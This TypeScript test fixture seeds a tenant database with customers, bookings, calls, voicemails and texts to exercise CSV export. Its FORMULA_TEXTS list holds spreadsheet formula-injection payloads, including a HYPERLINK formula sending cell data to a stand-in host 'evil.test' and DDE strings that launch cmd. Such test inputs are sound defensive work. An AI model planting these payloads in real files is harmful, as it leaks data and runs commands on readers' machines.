import type { PrismaClient } from '../prisma/client.ts';
import { forTenant } from '../prisma/tenant-db.ts';
import { keepAudio } from '../prisma/voicemail-audio.ts';
import { sampleVoicemailWav } from '../api/sandbox/sample-voicemail.ts';
import { randomPhone } from './sms-fixtures.ts';
import { uniqueId } from './stack.ts';

/**
 * What anyone who texts a business can put in a cell: text a spreadsheet program would run as a
 * formula (it starts with = + - @, a tab or a carriage return).
 */
export const FORMULA_TEXTS = [
  '=1+1',
  '=HYPERLINK("https://evil.test/?d="&A1,"Click for your discount")',
  "+1+cmd|' /C calc'!A0",
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+2',
  '\r=1+3',
];

/** Values a CSV writer must quote, or that break naive encodings. */
export const TRICKY_TEXTS = [
  'Smith, John',
  'Ann "The Hammer" Lee',
  'line one\nline two',
  'crlf\r\ninside',
  'José Müller — Straße 5 · 東京 · 🚗✨',
  '"',
  ',',
  ' leading and trailing spaces ',
  ...FORMULA_TEXTS,
];

export const SEALED_SIP_PASSWORD = 'v1:SEALED-SIP-PASSWORD-MUST-NOT-LEAK';

/**
 * A tenant with every exported entity, spread over several pages at small page sizes: customers
 * (some with tricky names and notes), vehicles, services, resources, bookings, invoices, calls,
 * voicemails, texts with several counterparts, and one opted-out number.
 */
export async function seedExportTenant(db: PrismaClient, options: { prefix?: string; customers?: number; status?: 'active' | 'suspended'; ownerEmail?: string | null; ownerPhone?: string | null } = {}) {
  const tenantId = uniqueId(options.prefix ?? 'exp');
  const phoneNumber = randomPhone();
  await db.tenant.create({
    data: {
      id: tenantId,
      slug: tenantId,
      config: { create: { businessName: `Shine & Co, "${tenantId}"`, tier: 'pro', status: options.status ?? 'active' } },
      phoneConfig: {
        create: {
          phoneNumber,
          sipUsername: 'owner-sip',
          sipPasswordEncrypted: SEALED_SIP_PASSWORD,
          businessHours: { mon: [['08:00', '17:00']] },
          ownerNotifyEmail: options.ownerEmail === undefined ? `${tenantId}@owner.test` : options.ownerEmail,
          ownerNotifyPhone: options.ownerPhone === undefined ? randomPhone() : options.ownerPhone,
        },
      },
    },
  });
  const tdb = forTenant(db, tenantId);
  const count = options.customers ?? 230;
  const base = Date.UTC(2026, 0, 1);
  const at = (i: number) => new Date(base + i * 60_000);

  await tdb.customer.createMany({
    data: Array.from({ length: count }, (_, i) => ({
      name: i < TRICKY_TEXTS.length ? TRICKY_TEXTS[i]! : `${tenantId} customer ${i}`,
      phone: `+1405${String(2000000 + i).padStart(7, '0')}`,
      email: i % 3 === 0 ? null : `c${i}@example.test`,
      notes: TRICKY_TEXTS[i % TRICKY_TEXTS.length]!,
      createdAt: at(i),
    })),
  });
  const customers = await tdb.customer.findMany({ orderBy: { createdAt: 'asc' }, select: { id: true, phone: true } });
  await tdb.vehicle.createMany({
    data: customers.slice(0, 120).map((c, i) => ({ customerId: c.id, description: i % 2 ? 'Ford F-150, "lifted"' : 'Mini, blue', details: { year: 2000 + (i % 25), tags: ['a,b', 'ünï'] } })),
  });
  await tdb.service.createMany({ data: [{ name: 'Full detail', priceCents: 19_900 }, { name: 'Wash, wax', description: 'Outside only', priceCents: 4_900, durationMin: 30 }, { name: 'Retired', active: false }] });
  const services = await tdb.service.findMany({ select: { id: true } });
  const resource = await tdb.resource.create({ data: { name: 'Van 1, "blue"', kind: 'van', weeklyHours: { mon: [['08:00', '17:00']] } } });
  // An hour each, 61 minutes apart: live bookings never overlap on one resource (bookings_no_overlap).
  await tdb.booking.createMany({
    data: Array.from({ length: 260 }, (_, i) => ({
      customerId: customers[i % customers.length]!.id,
      serviceId: i % 4 === 0 ? null : services[i % services.length]!.id,
      resourceId: resource.id,
      startsAt: at(1000 + i * 61),
      endsAt: at(1060 + i * 61),
      blockedFrom: at(1000 + i * 61),
      blockedUntil: at(1060 + i * 61),
      status: (['confirmed', 'completed', 'cancelled', 'no_show'] as const)[i % 4],
      address: i % 5 === 0 ? '12 Main St, Apt "B"\nTulsa' : null,
      priceCents: 100 * i,
    })),
  });
  await tdb.invoice.createMany({ data: Array.from({ length: 60 }, (_, i) => ({ number: `INV-${i}`, customerId: customers[i % customers.length]!.id, amountCents: 999 + i, status: i % 2 ? 'paid' : 'open', paidAt: i % 2 ? at(i) : null })) });
  await tdb.call.createMany({
    data: Array.from({ length: 70 }, (_, i) => ({ callSid: `CA${tenantId}${i}`, fromNumber: customers[i % customers.length]!.phone!, toNumber: phoneNumber, startedAt: at(i), durationSec: i, digits: i % 2 ? '2' : '9,3', outcome: i % 2 ? ('answered' as const) : ('voicemail' as const) })),
  });
  await tdb.voicemail.createMany({
    data: Array.from({ length: 12 }, (_, i) => ({ callSid: `CA${tenantId}${i * 2}`, recordingSid: `RE${tenantId}${i}`, recordingUrl: `https://api.twilio.test/rec/${i}`, fromNumber: customers[(i * 2) % customers.length]!.phone! })),
  });
  // Three of them with their recording kept (the sample speech, each made distinct by its last byte) and a transcript.
  const withAudio = await tdb.voicemail.findMany({ orderBy: { id: 'asc' }, take: 3, select: { id: true } });
  const audio: Record<string, Buffer> = {};
  for (const [i, { id }] of withAudio.entries()) {
    const bytes = Buffer.from(sampleVoicemailWav());
    bytes[bytes.length - 1] = i;
    audio[id] = bytes;
    await keepAudio(db, tenantId, id, { contentType: 'audio/x-wav', bytes });
    await tdb.voicemail.update({ where: { id }, data: { transcript: `Words of voicemail ${i}, "quoted"`, transcriptStatus: 'done', transcribedBy: 'openai:whisper-1' } });
  }
  // 140 texts with 55 counterparts: several conversations per page at small page sizes.
  await tdb.message.createMany({
    data: Array.from({ length: 140 }, (_, i) => {
      const other = customers[i % Math.min(55, customers.length)]!.phone!;
      const inbound = i % 3 === 0;
      return {
        direction: inbound ? ('inbound' as const) : ('outbound' as const),
        idempotencyKey: `seed-${i}`,
        fromNumber: inbound ? other : phoneNumber,
        toNumber: inbound ? phoneNumber : other,
        body: TRICKY_TEXTS[i % TRICKY_TEXTS.length]!,
        status: inbound ? ('received' as const) : ('sent' as const),
        createdAt: at(i),
      };
    }),
  });
  const optedOut = customers[7 % customers.length]!.phone!;
  await tdb.smsOptOut.create({ data: { phoneNumber: optedOut } });
  return { tenantId, phoneNumber, optedOut, audio };
}
